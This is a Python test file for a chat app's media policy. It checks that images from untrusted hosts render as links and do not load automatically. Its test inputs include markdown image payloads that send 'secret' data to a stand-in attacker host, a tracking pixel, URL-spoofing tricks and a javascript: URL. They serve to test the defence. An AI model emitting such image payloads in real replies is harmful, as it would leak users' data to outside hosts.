"""Which media load without asking: the endpoints' hosts, the operator's list and the user's "always" hosts; any
other host's image stays a link (and waits below the reply for a click), whatever form the reply gives it."""

from __future__ import annotations

import pytest

from db import repository
from services.config import load_settings
from services.media_policy import MediaPolicy, always_load_from, host_of, media_policy, parse_hosts
from services.rendering import extract_media, prepare_markdown

TRUSTED = MediaPolicy(frozenset({"relay.example"}))


@pytest.mark.parametrize(("url", "host"), [
    ("https://Relay.Example/v.mp4", "relay.example"),
    ("//evil.example/a.png", "evil.example"),
    ("\\\\evil.example\\a.png", "evil.example"),
    (" http://evil.example/a.png", "evil.example"),
    ("http://relay.example@evil.example/a.png", "evil.example"),
    ("http://relay.example./a.png", "relay.example"),
    ("http://[::1]:8080/a.png", "::1"),
    ("data:image/png;base64,AAAA", None),
    ("images/a.png", None),
    ("javascript:alert(1)", None),
])
def test_the_host_a_browser_would_fetch_from(url: str, host: str | None) -> None:
    assert host_of(url) == host


@pytest.mark.parametrize(("url", "allowed"), [
    ("https://relay.example/video/123.mp4", True),
    ("https://RELAY.example:8443/a.png", True),
    ("https://cdn.relay.example/a.png", False),  # a subdomain is another host
    ("http://evil.example/a.png?q=secret", False),
    ("//evil.example/a.png", False),
    ("http://relay.example@evil.example/a.png", False),
    ("data:image/png;base64,AAAA", True),
    ("javascript:alert(1)", False),
])
def test_only_trusted_hosts_load_without_asking(url: str, allowed: bool) -> None:
    assert TRUSTED.allows(url) is allowed


def test_a_click_loads_one_url_and_blocking_blocks_every_host() -> None:
    clicked = MediaPolicy(frozenset({"relay.example"}), loaded=frozenset({"http://evil.example/a.png"}))
    assert clicked.allows("http://evil.example/a.png") and not clicked.allows("http://evil.example/b.png")
    blocked = MediaPolicy(frozenset({"relay.example"}), block_all=True, loaded=frozenset({"http://evil.example/a.png"}))
    assert not blocked.allows("https://relay.example/v.mp4") and not blocked.allows("http://evil.example/a.png")
    assert blocked.allows("data:image/png;base64,AAAA") and not blocked.may_ask("http://evil.example/a.png")


def test_the_operator_lists_hosts_in_the_environment() -> None:
    assert parse_hosts(" cdn.example.com, https://Videos.Relay.io/x ,, 127.0.0.3:8080") == {
        "cdn.example.com", "videos.relay.io", "127.0.0.3"}
    settings = load_settings(env={"RELAYCHAT_MEDIA_HOSTS": "cdn.example.com", "RELAYCHAT_BLOCK_REMOTE_IMAGES": "1"})
    assert settings.media_hosts == {"cdn.example.com"} and settings.allow_remote_images is False
    assert load_settings(env={}).media_hosts == frozenset()


EVIL = "http://evil.example"


@pytest.mark.parametrize("text", [
    f"![chart]({EVIL}/leak.png?d=secret)",
    f"![chart](<{EVIL}/leak.png?d=secret>)",
    f'![chart]({EVIL}/leak.png?d=secret "title")',
    "![chart](//evil.example/leak.png?d=secret)",
    "![chart](\\\\\\\\evil.example\\\\leak.png)",  # markdown escapes: the URL is \\evil.example\leak.png
    "![chart](/\\\\evil.example/leak.png)",  # /\evil.example: the browser reads //evil.example
    f"![chart][ref]\n\n[ref]: {EVIL}/leak.png?d=secret",
    f"![chart]\n\n[chart]: {EVIL}/leak.png?d=secret",
    f"[![chart]({EVIL}/leak.png?d=secret)](https://relay.example/)",
    f"![track]({EVIL}/pixel?d=secret)",  # no extension: still an image to markdown
    f"> quoted ![chart]({EVIL}/leak.png)",
    f"1. ![chart]({EVIL}/leak.png)",
    f"中文说明![图表]({EVIL}/leak.png)",
])
def test_no_form_of_markdown_image_from_an_untrusted_host_stays_an_image(text: str) -> None:
    shown = prepare_markdown(text, allow_remote_images=TRUSTED)
    assert "![" not in shown.replace("\\![", ""), shown
    assert prepare_markdown(text, allow_remote_images=True) != shown  # the unrestricted form was an image


def test_an_image_on_a_trusted_host_stays_inline() -> None:
    text = "![sora](https://relay.example/v/1.png) and ![x](http://evil.example/x.png)"
    shown = prepare_markdown(text, allow_remote_images=TRUSTED)
    assert "![sora](https://relay.example/v/1.png)" in shown and "![x]" not in shown


@pytest.mark.parametrize("text", [
    f"Here: {EVIL}/clip.mp4",
    f"Here: {EVIL}/pic.PNG?x=1",
    f"<{EVIL}/pic.png>",
    f"[the video]({EVIL}/clip.webm)",
    f"see [ref]\n\n[ref]: {EVIL}/pic.jpg",
    f"视频{EVIL}/clip.mp4。",
])
def test_linked_media_are_found_for_the_placeholder(text: str) -> None:
    [media] = extract_media(text)
    assert host_of(media.url) == "evil.example" and not TRUSTED.allows(media.url)


def test_a_users_always_hosts_and_endpoints_make_their_policy_only(runtime, fake_openai) -> None:
    with runtime.db.write() as session:
        alice = repository.ensure_user(session, "alice")
        bob = repository.ensure_user(session, "bob")
    always_load_from(runtime, alice, "Pics.Example")
    always_load_from(runtime, alice, "pics.example")  # once is enough
    policy = media_policy(runtime, alice, [fake_openai.base_url])
    assert policy.allows("https://pics.example/a.png") and policy.allows("http://127.0.0.1:1/v.mp4")
    assert not policy.allows("http://evil.example/a.png")
    assert not media_policy(runtime, bob, []).allows("https://pics.example/a.png")
